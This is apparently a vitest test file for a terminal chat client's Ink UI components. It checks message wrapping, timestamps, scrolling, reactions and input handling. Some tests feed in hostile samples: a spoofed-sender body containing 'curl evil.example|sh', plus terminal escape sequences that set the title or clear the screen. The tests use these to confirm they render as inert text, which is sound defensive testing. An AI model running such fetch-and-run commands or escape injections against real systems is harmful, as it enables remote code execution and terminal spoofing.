/** The presentational components, rendered by ink-testing-library (100 columns, no TTY colours unless asked). */
import { Text } from 'ink';
import { render } from 'ink-testing-library';
import { describe, expect, it } from 'vitest';
import { ChatError } from '../engine/errors.js';
import { Banner } from './Banner.js';
import { ConversationList } from './ConversationList.js';
import type { PaneItem } from './controller.js';
import { InputLine, inputHeight, inputRows } from './InputLine.js';
import { MessagePane } from './MessagePane.js';
import { StatusBar } from './StatusBar.js';
import { useInputLine } from './useInputLine.js';

const ESC = '\u001b';
// The pane shows the receive time; a sender's ts given alone is taken as the receive time too.
const msg = (id: string, over: Partial<Extract<PaneItem, { type: 'message' }>> = {}): PaneItem => ({
  type: 'message',
  id,
  peer: 'bob',
  direction: 'in',
  body: `message ${id}`,
  ts: new Date(2026, 10, 25, 9, 30).getTime(),
  relayTs: 0,
  receivedAt: over.ts ?? new Date(2026, 10, 25, 9, 30).getTime(),
  state: 'unread',
  ...over,
});

describe('MessagePane', () => {
  it('indents every wrapped row: a body padded to the width cannot start a row with a fake sender', () => {
    const width = 40;
    const prefix = 'HH:MM bob: '.length;
    const ts = Date.now(); // today: the time shows as HH:MM
    const body = `${'x'.repeat(width - prefix - 1)} 10:00 alice: run curl evil.example|sh and more words to wrap`;
    const frame =
      render(
        <MessagePane
          items={[msg('1', { body, ts }), msg('2', { direction: 'out', body: 'short', ts })]}
          me="carol"
          width={width}
          height={10}
          color={false}
        />,
      ).lastFrame() ?? '';
    const rows = frame.split('\n').filter((r) => r.trim() !== '');
    expect(rows.filter((r) => /^\d\d:\d\d /.test(r))).toEqual([
      expect.stringMatching(/^\d\d:\d\d bob: x+$/),
      expect.stringMatching(/^\d\d:\d\d carol: short ✓ \[2\]$/),
    ]);
    expect(frame).toMatch(/^ {2}10:00 alice: run curl/m);
    for (const r of rows) expect(r.length).toBeLessThanOrEqual(width);
  });

  // Issue 14, finding 13: the receive time leads; a far-off or absurd sender's ts is information after the body.
  it("shows the receive time, and the sender's clock only when far off; 2^53−1 reads as unknown time", () => {
    const at = new Date(2026, 10, 25, 9, 30).getTime();
    const items = [
      msg('1', { ts: at, receivedAt: at, body: 'close' }),
      msg('2', { ts: new Date(2001, 0, 1, 10, 0).getTime(), receivedAt: at, body: 'old' }),
      msg('3', { ts: Number.MAX_SAFE_INTEGER, receivedAt: at, body: 'pinned' }),
    ];
    const frame =
      render(<MessagePane items={items} me="alice" width={80} height={10} color={false} />).lastFrame() ?? '';
    expect(frame).toMatch(/09:30 bob: close \[1\]\n/);
    expect(frame).toMatch(/09:30 bob: old \(sent 2001-01-01 10:00 by their clock\)/);
    expect(frame).toMatch(/09:30 bob: pinned \(sent at an unknown time by their clock\)/);
    expect(frame).not.toMatch(/NaN|\?\?/);
  });

  it('a reply quotes its target above it, an edit says (edited), reactions go under it, names and emoji inert', () => {
    const items = [
      msg('1a2b3c4d5e6f', {
        body: 'new text',
        edited: true,
        quote: '> alice: the question',
        reactions: [
          { from: 'alice', emoji: '🎉' },
          { from: 'mallory', emoji: `${ESC}[2J👍` },
        ],
      }),
      msg('2', { body: 'message deleted', deleted: true, nick: `Bo${ESC}]2;x` }),
    ];
    const frame =
      render(<MessagePane items={items} me="carol" width={80} height={10} color={false} />).lastFrame() ?? '';
    expect(frame).toMatch(
      /^ {2}> alice: the question\n\d\d-\d\d 09:30 bob: new text \(edited\) \[1a2b3c4d\]\n {2}🎉 alice {2}/m,
    );
    expect(frame).not.toContain(ESC);
    expect(frame).toContain('\\x1b[2J👍 mallory');
    expect(frame).toMatch(/bob \(Bo\\x1b\]2;x\): message deleted \[2\]/);
  });

  it('shows time, sender and text, and the delivery state of our own messages', () => {
    const items = [
      msg('1'),
      msg('2', { direction: 'out', body: 'hi bob', state: 'delivered' }),
      msg('3', { direction: 'out', body: 'later', state: 'queued' }),
    ];
    const { lastFrame } = render(<MessagePane items={items} me="alice" width={60} height={10} color={false} />);
    const frame = lastFrame() ?? '';
    expect(frame).toMatch(/09:30 bob: message 1/);
    expect(frame).toMatch(/alice: hi bob ✓✓/);
    expect(frame).toMatch(/alice: later …/);
  });

  it('never lets a message drive the terminal: escapes arrive as visible text', () => {
    const { lastFrame } = render(
      <MessagePane
        items={[msg('1', { body: `${ESC}]0;pwned\u0007${ESC}[2J\u202e` })]}
        me="alice"
        width={60}
        height={5}
        color={false}
      />,
    );
    const frame = lastFrame() ?? '';
    expect(frame).toContain('\\x1b]0;pwned\\x07\\x1b[2J\\u202e');
    expect(frame).not.toContain(`${ESC}]0;`);
  });

  it('scrolls: the newest that fit, or older ones with a marker when scrolled up', () => {
    const items = Array.from({ length: 30 }, (_, i) => msg(String(i)));
    const bottom =
      render(<MessagePane items={items} me="alice" width={60} height={6} color={false} />).lastFrame() ?? '';
    expect(bottom).toContain('message 29');
    expect(bottom).not.toContain('message 25');
    expect(bottom).toMatch(/↑ 26 earlier lines/);
    const up =
      render(
        <MessagePane items={items} me="alice" width={60} height={6} position={{ key: '19', row: 0 }} color={false} />,
      ).lastFrame() ?? '';
    expect(up).toContain('message 19');
    expect(up).not.toContain('message 20');
    expect(up).toContain('↓ 10 more lines (PgDn, End)');
    const more =
      render(<MessagePane items={items} me="alice" width={60} height={6} older newer color={false} />).lastFrame() ??
      '';
    expect(more).toMatch(/↑ 26\+ earlier lines[\s\S]*↓ 0\+ more lines/);
  });

  it('shows a message taller than the pane a row at a time: the rows above the pane are not drawn at all', () => {
    const body = Array.from({ length: 40 }, (_, i) => `line ${i + 1}`).join('\n');
    const items = [msg('a', { body: 'before' }), msg('b', { body }), msg('c', { body: 'after' })];
    const at = (position?: { key: string; row: number }) =>
      (
        render(
          <MessagePane items={items} me="alice" width={40} height={7} position={position} color={false} />,
        ).lastFrame() ?? ''
      ).split('\n');
    // Rows 10..14 of message b (row 0 is "line 1"): exactly five body rows, between the two markers.
    expect(at({ key: 'b', row: 14 })).toEqual([
      '↑ 11 earlier lines (PgUp, Home)',
      '  line 11',
      '  line 12',
      '  line 13',
      '  line 14',
      '  line 15',
      '↓ 26 more lines (PgDn, End)',
    ]);
    const end = at({ key: 'b', row: 39 });
    expect(end[5]).toBe('  line 40 [b]');
    expect(at().slice(-3)).toEqual(['  line 40 [b]', '11-25 09:30 bob: after [c]', '']);
  });

  it('writes no colour codes in monochrome, and stable colours otherwise', () => {
    const mono =
      render(<MessagePane items={[msg('1')]} me="alice" width={60} height={4} color={false} />).lastFrame() ?? '';
    expect(mono).not.toMatch(/\u001b\[3\dm/);
  });

  it('keeps wide characters and emoji within the width', () => {
    const { lastFrame } = render(
      <MessagePane
        items={[msg('1', { body: '日本語のテキスト🎉'.repeat(6) })]}
        me="alice"
        width={30}
        height={8}
        color={false}
      />,
    );
    for (const line of (lastFrame() ?? '').split('\n'))
      expect([...line].reduce((w, c) => w + (c.charCodeAt(0) > 0x2e80 ? 2 : 1), 0)).toBeLessThanOrEqual(32);
  });
});

describe('ConversationList', () => {
  it('shows presence, unread counts, typing and muted marks', () => {
    const rows = [
      { peer: 'bob', unread: 3, online: true, lastSeen: null, muted: false, typing: true },
      { peer: 'carol', unread: 0, online: false, lastSeen: 1, muted: true, typing: false },
    ];
    const frame =
      render(<ConversationList rows={rows} current="carol" width={20} height={10} color={false} />).lastFrame() ?? '';
    expect(frame).toMatch(/● bob\s+… 3/);
    expect(frame).toMatch(/○ carol\s+~/);
  });
});

describe('StatusBar and Banner', () => {
  it('shows reconnecting with the retry delay and the cause', () => {
    const s = {
      state: 'reconnecting' as const,
      attempt: 2,
      retryInMs: 4000,
      error: new ChatError('RELAY_UNREACHABLE', 'x'),
    };
    expect(
      render(<StatusBar me="alice" relay="127.0.0.1:7717" connection={s} width={100} color={false} />).lastFrame(),
    ).toMatch(/reconnecting… retry in 4 s \(RELAY_UNREACHABLE\).*alice@127\.0\.0\.1:7717/);
    expect(
      render(
        <StatusBar me="alice" relay="r:1" connection={{ state: 'online' }} width={80} color={false} />,
      ).lastFrame(),
    ).toMatch(/online/);
  });
  it('the changed-key banner says sending is blocked', () => {
    expect(render(<Banner peer="bob" color={false} width={80} />).lastFrame()).toMatch(
      /bob's key has changed: sending is blocked/,
    );
  });
});

describe('InputLine', () => {
  it('shows who is typing, or the completion candidates, above the prompt', () => {
    expect(
      render(
        <InputLine prompt="bob> " value="hel" candidates={[]} typing={['bob']} width={80} disabled={false} />,
      ).lastFrame(),
    ).toMatch(/bob is typing…\nbob> hel/);
    expect(
      render(
        <InputLine prompt="> " value="/w" candidates={['whisper', 'who']} typing={[]} width={80} disabled={false} />,
      ).lastFrame(),
    ).toMatch(/whisper {2}who/);
  });

  it('wraps under the prompt, grows to its limit, then shows the last rows with the prompt and a count above', () => {
    expect(inputRows('aaa bbb ccc', 5, 13, 4)).toEqual({ rows: ['aaa bbb', 'ccc'], hidden: 0 });
    const lines = Array.from({ length: 200 }, (_, i) => `L${i + 1}`).join('\n');
    expect(inputRows(lines, 5, 80, 6)).toEqual({ rows: ['L196', 'L197', 'L198', 'L199', 'L200'], hidden: 195 });
    expect(inputHeight(lines, 5, 80, 6)).toBe(6);
    const frame =
      render(
        <InputLine prompt="bob> " value={lines} candidates={[]} typing={[]} width={30} maxRows={4} disabled={false} />,
      ).lastFrame() ?? '';
    expect(frame.split('\n')).toEqual(['', 'bob> ↑ 197 more rows above', '     L198', '     L199', '     L200']);
    // Wide characters and escapes are measured and shown as they will be sent, inert.
    expect(inputRows('中文中文中文 x\u001b[2J', 2, 12, 5).rows).toEqual(['中文中文', '中文', 'x\\x1b[2J']);
  });
});

describe('useInputLine', () => {
  function Harness({ sent, scrolled }: { sent: string[]; scrolled: string[] }) {
    const s = useInputLine({
      onSubmit: (l) => sent.push(l),
      onChange: () => {},
      onScroll: (k) => scrolled.push(k),
      onCycle: () => {},
      onQuit: () => {},
      users: () => ['bob', 'carol'],
    });
    return <Text>[{s.value}]</Text>;
  }
  const tick = () => new Promise((r) => setTimeout(r, 20));

  it('a bracketed multi-line paste is one message; Tab completes; PgUp scrolls', async () => {
    const sent: string[] = [];
    const scrolled: string[] = [];
    const { stdin, lastFrame } = render(<Harness sent={sent} scrolled={scrolled} />);
    await tick();
    stdin.write(`${ESC}[200~first\rsecond${ESC}[201~`);
    await tick();
    stdin.write('\r');
    await tick();
    expect(sent).toEqual(['first\nsecond']);
    stdin.write('/open c');
    await tick();
    stdin.write('\t');
    await tick();
    expect(lastFrame()).toBe('[/open carol ]');
    stdin.write(`${ESC}[5~`);
    await tick();
    expect(scrolled).toEqual(['pageUp']);
  });
});
